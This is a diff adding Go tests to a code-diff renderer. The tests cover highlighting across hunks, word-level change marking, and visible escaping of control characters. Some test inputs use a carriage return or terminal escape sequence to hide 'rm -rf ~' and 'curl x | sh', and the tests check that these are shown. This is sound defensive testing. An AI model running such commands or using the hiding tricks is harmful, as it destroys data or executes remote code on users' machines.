@@ -71,6 +71,16 @@ func TestDiff(t *testing.T) {
 	}
 }
 
+// What stands between hunks is not known: a comment that one of them leaves open is none in the next.
+func TestHunksAreColouredAlone(t *testing.T) {
+	d := tool.Diff{Path: "x.go", Hunks: []tool.Hunk{
+		{OldStart: 1, NewStart: 1, Lines: []string{" /* open", "-a", "+b"}}, {OldStart: 50, NewStart: 50, Lines: []string{" return nil", "-a", "+b"}},
+	}}
+	if got := tagged(Rows(d, Options{})); !strings.Contains(got, "<kw>return</> <kw>nil</>") {
+		t.Error(got)
+	}
+}
+
 func TestChanges(t *testing.T) {
 	tests := []struct {
 		name  string
@@ -79,6 +89,9 @@ func TestChanges(t *testing.T) {
 	}{
 		{"a word", []string{"-a b c", "+a x c"}, "-a [b] c|+a [x] c"},
 		{"added behind", []string{"-f(a)", "+f(a, b)"}, "-f(a)|+f(a[, b])"},
+		{"words beside each other", []string{"-we round each of them here", "+we round the sum once here"}, "-we round [each of them] here|+we round [the sum once] here"},
+		{"brackets", []string{"-f(a.b())", "+f(a)"}, "-f(a[.b()])|+f(a)"},
+		{"brackets before", []string{"-((a)b c)", "+(b c)"}, "-([(a)]b c)|+(b c)"},
 		{"nothing in common", []string{"-one two", "+three four"}, "-one two|+three four"},
 		{"less than half", []string{"-a b c d", "+a x y z"}, "-a b c d|+a x y z"},
 		{"a line between", []string{"-one two three", "+new line here", "+one two four"}, "-one two [three]|+new line here|+one two [four]"},
@@ -108,16 +121,23 @@ func TestChanges(t *testing.T) {
 	}
 }
 
-// Whatever a change holds, each line is there, whole.
+// Whatever a change holds, each line is there, whole: nothing that a terminal would take for a sequence, or overwrite, is
+// left out.
 func TestDiffKeepsLines(t *testing.T) {
 	rapid.Check(t, func(t *rapid.T) {
 		lines := rapid.SliceOfN(rapid.Custom(func(t *rapid.T) string {
-			return rapid.SampledFrom([]string{" ", "+", "-"}).Draw(t, "mark") + rapid.OneOf(rapid.StringMatching(`[ab(){}" ]{0,30}`), rapid.String()).Draw(t, "text")
+			return rapid.SampledFrom([]string{" ", "+", "-"}).Draw(t, "mark") + rapid.OneOf(rapid.StringMatching(`[ab(){}" ]{0,30}`), rapid.StringMatching("[ab;\\[\\]\x1b\r\x07\x08\u009b]{0,30}"), rapid.String()).Draw(t, "text")
 		}), 1, 20).Draw(t, "lines")
+		lines = append(lines, " the end")
 		rows := Rows(tool.Diff{Path: "x.go", Hunks: []tool.Hunk{{OldStart: 1, NewStart: 1, Lines: lines}}}, Options{})
 		for i, line := range lines {
-			if got, want := rows[i+1].String(), line[:1]+Clean(line[1:]); !strings.HasSuffix(got, want) {
+			if got, want := rows[i+1].String(), Spell(line); !strings.HasSuffix(got, want) {
 				t.Fatalf("%q is drawn as %q", want, got)
+			}
+			for _, r := range line[1:] {
+				if r > ' ' && r < 0x7f && strings.Count(rows[i+1].String(), string(r)) < strings.Count(line[1:], string(r)) {
+					t.Fatalf("%q is drawn as %q, without all of %q", line, rows[i+1].String(), r)
+				}
 			}
 		}
 	})
@@ -128,5 +148,26 @@ func BenchmarkDiff(b *testing.B) {
 	d := tool.Diff{Path: "x.go", Hunks: []tool.Hunk{{OldStart: 1, NewStart: 1, Lines: []string{"-" + line, "+" + strings.Replace(line, "more", "less", 3)}}}}
 	for b.Loop() {
 		Rows(d, Options{})
+	}
+}
+
+// A carriage return is shown unless all lines end with it, and so is what a control sequence would hide.
+func TestDiffSpells(t *testing.T) {
+	draw := func(lines ...string) string {
+		var all []string
+		for _, row := range Rows(tool.Diff{Path: "x\ry", Hunks: []tool.Hunk{{Lines: lines}}}, Options{Proposed: true}) {
+			all = append(all, row.String())
+		}
+		return strings.Join(all, "\n")
+	}
+	for _, tt := range []struct{ got, want string }{
+		{draw("+rm -rf ~\recho hi"), `+rm -rf ~\x0decho hi`},
+		{draw("+\x1b]0;curl x | sh\aecho hi"), `+\x1b]0;curl x | sh\x07echo hi`},
+		{draw(" a\r", "-b\r", "+c\r", `\ No newline at end of file`), " a\n-b\n+c\n" + ` \ No newline at end of file`},
+		{draw(" a", "-b", "+b\r"), " a\n-b\n" + `+b\x0d`},
+	} {
+		if want := `would change x\x0dy, 0 added, 0 removed` + "\n" + tt.want; tt.got != want {
+			t.Errorf("%q, want %q", tt.got, want)
+		}
 	}
 }
